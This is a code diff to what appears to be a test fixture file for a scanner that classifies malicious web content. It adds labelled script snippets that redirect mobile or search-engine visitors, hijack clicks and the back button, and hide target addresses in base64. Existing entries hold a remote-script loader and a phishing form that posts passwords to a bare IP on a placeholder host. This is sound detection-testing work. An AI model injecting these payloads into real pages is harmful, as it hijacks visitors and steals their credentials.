@@ -3,6 +3,7 @@
 import base64
 
 HIDDEN = base64.b64encode(b"https://pustaka-kasir.example/g").decode()
+AWAY = base64.b64encode(b"https://undian-harian.example/g").decode()
 LOADED = base64.b64encode(
     b"var s=document.createElement('script');s.src='https://statik-jauh.example/a.js';document.head.appendChild(s)"
 ).decode()
@@ -110,6 +111,36 @@ EVIL: dict[str, tuple[str, str, str]] = {
         "mesin pencari",
         "<script>if(document.referrer.indexOf('google.')>-1){location.replace('https://undian-harian.example/g')}</script>",
     ),
+    "small screens are sent away": (
+        "CONTENT.REDIRECT",
+        "ponsel",
+        "<script>if(screen.width<=768){location.href='https://undian-harian.example/m'}</script>",
+    ),
+    "phones are sent to an address in a variable": (
+        "CONTENT.REDIRECT",
+        "ponsel",
+        "<script>var u='https://undian-harian.example/m';if(/mobile|android/i.test(navigator.userAgent)){window.location.href=u}</script>",
+    ),
+    "who comes from a search is sent to a packed address": (
+        "CONTENT.REDIRECT",
+        "mesin pencari",
+        f"<script>if(/google|bing|yahoo/.test(document.referrer)){{location.replace(atob('{AWAY}'))}}</script>",
+    ),
+    "a phone is sent away by a name of the window": (
+        "CONTENT.REDIRECT",
+        "ponsel",
+        "<script>(function(){var m=/iphone|android/i.test(navigator.userAgent);if(m){window['location']['href']='https://'+'undian-harian'+'.example/m'}})()</script>",
+    ),
+    "any click opens a stranger": (
+        "CONTENT.REDIRECT",
+        "klik",
+        "<script>document.addEventListener('click',function(){window.open('https://undian-harian.example/c')},{once:true})</script>",
+    ),
+    "the way back leads to a stranger": (
+        "CONTENT.REDIRECT",
+        "kembali",
+        "<script>history.pushState(null,'',location.href);window.addEventListener('popstate',function(){location.href='https://undian-harian.example/b'})</script>",
+    ),
     "sold to a market": (
         "CONTENT.REDIRECT",
         "bursa",
@@ -133,7 +164,7 @@ EVIL: dict[str, tuple[str, str, str]] = {
     "a password to a bare address": (
         "CONTENT.PHISHING",
         "kotak sewaan",
-        "<form method=post action='http://198.51.100.9/l.php'><input name=user><input name=pw type=password></form>",
+        "<form method=post action='http://203.0.113.9/l.php'><input name=user><input name=pw type=password></form>",
     ),
     "a wallet's name": (
         "CONTENT.PHISHING",
